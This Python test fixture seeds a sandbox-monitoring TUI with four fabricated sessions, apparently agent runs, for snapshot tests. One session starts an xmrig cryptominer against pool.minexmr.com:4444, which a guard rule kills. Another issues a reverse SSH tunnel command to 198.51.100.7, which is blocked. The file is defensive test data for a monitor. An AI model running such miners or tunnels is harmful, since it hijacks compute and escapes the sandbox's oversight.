"""Deterministic fixture data for the TUI tests, written through the real Store API.

`Store.create_session` stamps `created` with the wall clock, so `pin_times` rewrites the
timestamps of the fixture sessions through a second SQLite connection: with the app's
clock pinned too, ages render the same on every run (snapshots depend on it).
"""

from __future__ import annotations

import os
import sqlite3
from typing import Any

from sandbox.record import Store

T0 = 1_760_000_000.0  # fixed "now" for the app's clock in snapshot tests
OWNER_START = "0.00"  # owner pid 1 with a start token that never matches: owner "dead"


def _session(store: Store, sid: str, profile: str, *, kind: str = "api",
             argv: list[str] | None = None) -> None:
    store.create_session(
        sid, profile=profile, kind=kind, workdir=f"/srv/agents/{sid}", argv=argv or [],
        owner_pid=os.getpid(), owner_start=OWNER_START, host="gpu-node-7", user="agent",
    )


def fill(store: Store) -> dict[str, Any]:
    """Four sessions: a miner caught by rules, a reverse-tunnel attempt, a clean pytest
    run still going, and a finished one. Returns {id: created} for pinning."""
    created = {"a1b2c3d4e5": T0 - 754, "f0e1d2c3b4": T0 - 301, "9988776655": T0 - 95,
               "0011223344": T0 - 3_700}

    # 1. mining: GPU use, stratum connection denied, killed by rule.
    sid = "a1b2c3d4e5"
    _session(store, sid, "gpu")
    store.update_session(sid, state="running", jail_pid=4242, jail_name=f"sandbox-{sid}")
    c = created[sid]
    store.add_command(sid, text="pip install -r requirements.txt", output="Successfully installed numpy-2.1.0\n",
                      exit_code=0, started=c + 2, duration=14.2)
    store.add_command(sid, text="python train.py --epochs 3", output="epoch 1/3 loss=0.412\nepoch 2/3 loss=0.377\n",
                      exit_code=0, started=c + 20, duration=301.5)
    store.add_event(sid, "proc.exec", {"pid": 311, "ppid": 1, "argv": ["./xmrig", "-o", "pool.minexmr.com:4444"], "exe": "/work/xmrig", "uid": 1001}, ts=c + 330)
    store.add_event(sid, "dns.query", {"name": "pool.minexmr.com", "qtype": "A", "verdict": "deny", "answers": []},
                    severity="warning", ts=c + 331)
    store.add_event(sid, "net.attempt", {"dst_ip": "203.0.113.50", "dst_port": 4444, "protocol": "mining", "name": "pool.minexmr.com",
                    "verdict": "deny", "reason": "not in allowlist", "bytes_up": 0, "bytes_down": 0, "duration": 0.0}, ts=c + 331.5)
    store.add_event(sid, "gpu.sample", {"gpu": 0, "pid": 311, "mem_bytes": 6_442_450_944, "util": 98.0}, ts=c + 340)
    store.add_event(sid, "guard.verdict", {"rule": "mining.stratum", "pack": "mining", "action": "kill",
                    "evidence": "stratum JSON-RPC to pool.minexmr.com:4444", "attack": "cryptomining"},
                    severity="critical", action="kill", rule="mining.stratum", ts=c + 331.6)
    store.update_session(sid, current_command="./xmrig -o pool.minexmr.com:4444", cpu_percent=395.0,
                         mem_bytes=2_147_483_648, gpu_mem_bytes=6_442_450_944, gpu_util=98.0)

    # 2. reverse SSH tunnel attempt: blocked, still running.
    sid = "f0e1d2c3b4"
    _session(store, sid, "pypi")
    store.update_session(sid, state="running", jail_pid=4343, jail_name=f"sandbox-{sid}")
    c = created[sid]
    store.add_command(sid, text="ssh -R 2222:localhost:22 ops@198.51.100.7", output="ssh: connect to host 198.51.100.7 port 22: Connection refused\n",
                      exit_code=255, started=c + 40, duration=0.31)
    store.add_event(sid, "net.attempt", {"dst_ip": "198.51.100.7", "dst_port": 22, "protocol": "ssh", "name": None,
                    "verdict": "deny", "reason": "ssh banner to non-allowlisted host", "bytes_up": 21, "bytes_down": 0, "duration": 0.01},
                    severity="alert", action="block", rule="tunnels.reverse_ssh", ts=c + 40.2)
    store.add_event(sid, "net.attempt", {"dst_ip": "151.101.0.223", "dst_port": 443, "protocol": "tls", "name": "pypi.org",
                    "verdict": "allow", "reason": "allowlist", "bytes_up": 517, "bytes_down": 4096, "duration": 0.2}, ts=c + 12)
    store.update_session(sid, current_command="pip download requests", cpu_percent=12.0, mem_bytes=157_286_400)

    # 3. clean pytest run, running now.
    sid = "9988776655"
    _session(store, sid, "default", kind="run", argv=["pytest", "-q"])
    store.update_session(sid, state="running", jail_pid=4444, jail_name=f"sandbox-{sid}",
                         current_command="pytest -q", cpu_percent=88.0, mem_bytes=524_288_000)
    store.add_event(sid, "resource.sample", {"cpu_percent": 88.0, "mem_bytes": 524_288_000, "pids": 7}, ts=created[sid] + 60)

    # 4. finished an hour ago.
    sid = "0011223344"
    _session(store, sid, "default")
    store.update_session(sid, state="running", jail_pid=4545, jail_name=f"sandbox-{sid}")
    store.add_command(sid, text="ls -la", output="total 8\ndrwxr-xr-x 2 agent agent 4096 .\n",
                      exit_code=0, started=created[sid] + 1, duration=0.004)
    store.finish_session(sid, "exited", "closed", 0)

    pin_times(store, created, ended={"0011223344": created["0011223344"] + 30})
    return created


def pin_times(store: Store, created: dict[str, float], ended: dict[str, float] | None = None) -> None:
    """Give fixture sessions fixed `created` (and `ended`) times, outside the Store API."""
    db = sqlite3.connect(store.path)
    try:
        with db:
            for sid, ts in created.items():
                db.execute("UPDATE sessions SET created=? WHERE id=?", (ts, sid))
            for sid, ts in (ended or {}).items():
                db.execute("UPDATE sessions SET ended=? WHERE id=?", (ts, sid))
    finally:
        db.close()
